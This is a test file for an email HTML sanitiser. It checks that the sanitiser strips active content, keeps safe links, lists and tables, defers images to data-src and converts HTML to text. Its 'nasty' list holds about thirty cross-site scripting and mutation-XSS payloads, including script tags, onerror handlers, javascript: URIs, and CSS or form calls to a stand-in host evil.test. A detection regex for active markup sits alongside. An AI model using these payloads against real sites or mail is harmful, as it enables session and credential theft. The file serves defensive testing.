import { describe, expect, it } from 'vitest';
import { sanitiseHtml, textOfHtml } from '../../supabase/functions/_shared/messages/sanitise.ts';

/** What must never be left, however the mail is written. */
const active =
  /<(?:script|style|svg|math|iframe|object|embed|form|input|button|textarea|select|link|meta|base|template|video|audio)\b|\son\w+\s*=|javascript:|vbscript:|data:|\ssrc\s*=|\sstyle\s*=|\ssrcset\s*=|\sid\s*=|expression\(/i;

const nasty = [
  '<script>steal()</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<img src=x onerror=steal()>',
  '<img src="x" oNeRrOr = "steal()" srcset="https://evil.test/a 1x">',
  '<img/src=`x`onerror=steal()>',
  '<img """><script>steal()</script>">',
  '<a href="javascript:steal()">x</a>',
  '<a href=" &#106;avascript:steal()">x</a>',
  '<a href="java\tscript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="//evil.test">x</a>',
  '<svg onload=steal()><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  '<style>@import "https://evil.test/x.css"; body { display: none }</style>',
  '<p style="background:url(https://evil.test/x.gif)">x</p>',
  '<p style="width: expression(steal())">x</p>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="https://evil.test">',
  '<form action="https://evil.test"><input name="password"><button formaction="javascript:steal()">Go</button></form>',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test"><link rel="stylesheet" href="https://evil.test">',
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  '<template><img src=x onerror=steal()></template>',
  '<div id="x" name="y" onclick="steal()" onmouseover=steal()>x</div>',
  '<table background="https://evil.test/x.gif"><td background="https://evil.test/y.gif">x</td></table>',
  '<!--[if IE]><script>steal()</script><![endif]--><!-- > <img src=x onerror=steal()> -->',
  '<![CDATA[<img src=x onerror=steal()>]]>',
  '<b><i><p><table><tr><td><div <img src=x onerror=steal()//',
  `${'<div>'.repeat(5000)}<script>steal()</script>`,
  '\u0000<scr\u0000ipt>steal()</script>',
];

describe('sanitised HTML', () => {
  it.each(nasty)('leaves nothing active of %s', (html) => {
    const clean = sanitiseHtml(`<p>before</p>${html}`);
    expect(clean.replace(/data-src="https?:[^"]*"/g, '')).not.toMatch(active);
    expect(clean).toContain('before');
    // Sanitised once more it is the same, so a browser that reads it has nothing to repair.
    expect(sanitiseHtml(clean.replaceAll('data-src=', 'src='))).toBe(clean);
  });

  it('keeps links, lists, tables and emphasis; links open in a new window without a referrer', () => {
    expect(
      sanitiseHtml('<p>See <a href="https://fjordpak.test/a?b=1&amp;c=2" class="x">our <b>page</b></a></p>'),
    ).toBe(
      '<p>See <a href="https://fjordpak.test/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">our <b>page</b></a></p>',
    );
    const plain =
      '<ul><li>one</li></ul><table><tbody><tr><td colspan="2">x</td></tr></tbody></table><blockquote>y</blockquote>';
    expect(sanitiseHtml(plain)).toBe(plain);
    expect(sanitiseHtml('<a href="mailto:mia@outreach.test">Mia</a>')).toContain(
      'href="mailto:mia@outreach.test"',
    );
  });

  it('loads no image: the address waits in data-src, and only of the web', () => {
    expect(sanitiseHtml('<img src="https://t.test/p.gif" alt="Logo" width="120" height="20" style="x">'))
      .toBe(
        '<img data-src="https://t.test/p.gif" alt="Logo" width="120" height="20" />',
      );
    for (const src of ['cid:part1', 'data:image/png;base64,AAAA', 'file:///etc/passwd', '//t.test/p.gif']) {
      expect(sanitiseHtml(`<img src="${src}">`)).toBe('<img />');
    }
    expect(sanitiseHtml('<img data-src="javascript:steal()">')).toBe('<img />');
  });

  it('survives input that is far too long', () => {
    expect(sanitiseHtml(`<p>${'x'.repeat(900_000)}</p>`).length).toBeLessThan(600_000);
  });
});

describe('the text of HTML', () => {
  it('has a line for each block, no tags and no entities', () => {
    const html =
      '<div>Hi&nbsp;Ingrid,<br /><br />tea &amp; &lt;toast&gt;?</div><ul><li>one</li><li>two</li></ul><table><tr><td>a</td><td>b</td></tr></table>';
    expect(textOfHtml(sanitiseHtml(html))).toBe('Hi Ingrid,\n\ntea & <toast>?\none\ntwo\n\na b');
  });

  it('is empty without content', () => {
    expect(textOfHtml(sanitiseHtml('<style>p {}</style><img src="https://t.test/p.gif">'))).toBe('');
  });
});
